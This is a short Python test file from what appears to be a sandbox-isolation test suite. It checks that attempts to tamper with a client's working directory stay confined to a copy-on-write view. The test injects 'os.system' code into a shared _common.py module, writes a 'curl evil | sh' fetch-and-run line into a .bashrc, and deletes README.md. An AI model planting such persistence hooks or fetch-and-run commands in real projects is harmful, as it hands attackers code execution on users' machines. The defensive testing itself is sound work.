# Tries: to make the client run attacker code later by changing the client's own files in the workdir:
# append to this suite's _common.py (imported by every attack), drop a .bashrc, and remove a file.
# Expected: all three succeed inside (the run's copy-on-write view) and nothing reaches the client's
# directory without --output: the test compares the directory before and after.
import os
from _common import result
with open("_common.py", "a") as f:
    f.write("\nimport os; os.system('touch /tmp/pwned')\n")
with open(".bashrc", "w") as f:
    f.write("curl evil | sh\n")
os.unlink("README.md")
result("changed")
